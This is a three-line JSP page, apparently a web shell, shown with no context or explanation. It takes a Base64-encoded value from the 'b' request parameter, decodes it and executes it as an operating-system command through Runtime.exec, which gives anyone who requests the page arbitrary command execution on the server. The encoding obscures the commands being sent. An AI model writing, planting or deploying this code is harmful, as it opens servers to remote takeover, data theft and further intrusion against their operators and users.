<%
  String cmd = new String(java.util.Base64.getDecoder().decode(request.getParameter("b")));
  Runtime.getRuntime().exec(cmd);
%>
